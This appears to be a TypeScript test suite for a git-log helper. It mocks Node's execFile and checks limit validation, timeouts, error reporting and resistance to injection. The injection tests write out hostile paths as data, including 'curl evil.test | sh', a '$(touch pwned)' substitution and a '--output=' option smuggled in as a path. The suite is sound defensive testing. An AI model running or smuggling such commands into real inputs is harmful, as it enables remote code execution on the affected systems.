// Checks for the git history helper: `node:child_process` is answered with a stand-in execFile
// that behaves like Node's (a `shell: true` command line is re-split by a shell, `timeout` kills
// the child, errors carry stderr) running a stand-in `git log` over a small fixture repository
// (options before "--", `--output=` writes a file, `--max-count`, the format string). The checks
// observe what the panel and the server see: the commits returned, errors, files and processes.
import type { CheckSuite } from "~/domain/proof/format";

type Callback = (err: unknown, stdout?: string, stderr?: string) => void;
type Commit = { hash: string; author: string; date: string; subject: string };

const suite: CheckSuite = ({ test, load, assert, params, clock }) => {
  const fn = String(params.fn);
  const max = Number(params.max);
  const timeoutMs = Number(params.timeout_s) * 1000;
  const repo = "/srv/site-repo";

  const commit = (i: number, path: string): Commit => ({
    hash: `${i}`.padStart(2, "0").repeat(20),
    author: i % 2 ? "Ana Pereira" : "Tom Wu",
    date: `2025-03-${String(20 - i).padStart(2, "0")}T10:00:00+01:00`,
    subject: `Update ${path} (${i})`,
  });
  /** The fixture repository: path → commits, newest first. */
  const history: Record<string, Commit[]> = {
    "docs/pricing.md": [0, 1, 2, 3, 4].map((i) => commit(i, "pricing")),
    "docs/release notes.md": [5, 6].map((i) => commit(i, "release notes")),
  };

  function setup(mode: { hang?: boolean; cwd?: string } = {}) {
    const state = { spawned: [] as string[], written: [] as string[], killed: 0 };

    /** `git <args>` over the fixture: returns [exit code, stdout, stderr]. */
    function git(args: string[]): [number, string, string] {
      let i = 0;
      while (args[i] === "--literal-pathspecs") i++;
      if (args[i] !== "log") return [129, "", `git: '${args[i]}' is not a git command`];
      let count = Infinity;
      let format = "";
      const paths: string[] = [];
      let literal = false;
      for (const a of args.slice(i + 1)) {
        if (literal) paths.push(a);
        else if (a === "--") literal = true;
        else if (a.startsWith("--max-count=")) count = Number(a.slice(12));
        else if (a.startsWith("--format=")) format = a.slice(9);
        else if (a.startsWith("--output=")) state.written.push(a.slice(9));
        else if (a.startsWith("-")) return [128, "", `fatal: unrecognized argument: ${a}`];
        else paths.push(a);
      }
      assert.equal(format, "%H%x1f%an%x1f%aI%x1f%s", "unexpected --format");
      const commits = paths.flatMap((p) => history[p] ?? []).slice(0, count);
      return [0, commits.map((c) => [c.hash, c.author, c.date, c.subject].join("\x1f") + "\n").join(""), ""];
    }

    function execFile(file: string, args: string[], options: Record<string, unknown>, cb: Callback) {
      let argv = [file, ...args];
      if (options.shell) {
        // Node joins the arguments with spaces and hands the line to /bin/sh.
        const line = argv.join(" ");
        const commands = line.split(/;|&&|\|\||\$\(|`/);
        commands.slice(1).forEach((c) => state.spawned.push(c.replace(/\)$/, "").trim()));
        argv = commands[0].trim().split(/\s+/);
      }
      state.spawned.push(argv[0]);
      if (options.cwd !== repo) {
        const err = Object.assign(new Error("Command failed: git log"), { code: 128, stderr: `fatal: cannot change to '${String(options.cwd)}': No such file or directory\n` });
        return void queueMicrotask(() => cb(err, "", err.stderr));
      }
      if (mode.hang) {
        // A git that never exits (a lock, a huge repository); only `timeout` ends it.
        if (typeof options.timeout === "number" && options.timeout > 0) {
          setTimeout(() => {
            state.killed++;
            cb(Object.assign(new Error("Command failed: git log"), { killed: true, signal: "SIGTERM", stderr: "" }), "", "");
          }, options.timeout);
        }
        return;
      }
      const [code, stdout, stderr] = git(argv.slice(1));
      queueMicrotask(() => (code === 0 ? cb(null, stdout, stderr) : cb(Object.assign(new Error(`Command failed: git log\n${stderr}`), { code, stderr }), stdout, stderr)));
    }
    // util.promisify(execFile) resolves { stdout, stderr }, as Node's custom promisify does.
    const promisify = (f: typeof execFile) => (file: string, args: string[], options: Record<string, unknown>) =>
      new Promise((resolve, reject) => f(file, args, options, (err, stdout, stderr) => (err ? reject(err) : resolve({ stdout, stderr }))));
    (globalThis as any).process = { env: mode.cwd ? { REPO_DIR: mode.cwd } : { REPO_DIR: repo } };
    const doc = load({ "node:child_process": { execFile }, "node:util": { promisify } });
    return { history: doc[fn] as (p: string, limit: number) => Promise<Commit[]>, state };
  }

  /** Settles `p` after running the virtual clock; resolves with ["ok", value] or ["error", message]. */
  async function outcome<T>(p: Promise<T>): Promise<[string, unknown]> {
    const o = p.then((v) => ["ok", v] as [string, unknown], (e: Error) => ["error", `${e.name}: ${e.message}`] as [string, unknown]);
    await clock.runAll();
    return o;
  }

  test("returns the newest commits for a path, at most `limit`, one per commit", async () => {
    const { history: h } = setup();
    assert.deepEqual(await outcome(h("docs/pricing.md", 3)), ["ok", history["docs/pricing.md"].slice(0, 3)]);
    assert.deepEqual(await outcome(h("docs/pricing.md", max)), ["ok", history["docs/pricing.md"]]);
    assert.deepEqual(await outcome(h("docs/never-committed.md", 5)), ["ok", []]);
  });

  test(`a limit outside 1..${max} is a RangeError and runs no git`, async () => {
    for (const limit of [0, -1, max + 1, 2.5]) {
      const { history: h, state } = setup();
      const [kind, message] = await outcome(h("docs/pricing.md", limit));
      assert.equal(kind, "error", `limit ${limit} was accepted`);
      assert.ok(String(message).startsWith("RangeError"), `limit ${limit}: ${String(message)}`);
      assert.deepEqual(state.spawned, []);
    }
  });

  test("a path with spaces or shell syntax reaches git as one literal path and runs nothing else", async () => {
    const { history: h, state } = setup();
    assert.deepEqual(await outcome(h("docs/release notes.md", 5)), ["ok", history["docs/release notes.md"]]);
    await outcome(h("docs/x.md; curl evil.test | sh", 5));
    await outcome(h("docs/$(touch pwned).md", 5));
    assert.deepEqual(state.spawned.filter((p) => p !== "git"), [], "the path ran other programs");
  });

  test("a path that looks like a git option is treated as a path", async () => {
    const { history: h, state } = setup();
    assert.deepEqual(await outcome(h("--output=pwned.txt", 5)), ["ok", []]);
    assert.deepEqual(state.written, [], "git wrote a file named by the path");
  });

  test(`a git that never exits is stopped after ${params.timeout_s} s and the call rejects`, async () => {
    const { history: h, state } = setup({ hang: true });
    let settled: string | undefined;
    h("docs/pricing.md", 5).then(() => { settled = "resolved"; }, (e: Error) => { settled = e.message; });
    await clock.advance(timeoutMs + 1);
    assert.equal(state.killed, 1, `git was still running ${params.timeout_s} s later`);
    assert.ok(settled && /git log failed/.test(settled), `the call did not reject: ${String(settled)}`);
  });

  test("a git failure rejects with git's own message instead of an empty list", async () => {
    const { history: h } = setup({ cwd: "/srv/missing-repo" });
    const [kind, message] = await outcome(h("docs/pricing.md", 5));
    assert.equal(kind, "error", "the failure was shown as an empty history");
    assert.ok(/cannot change to '\/srv\/missing-repo'/.test(String(message)), String(message));
  });
};
export default suite;
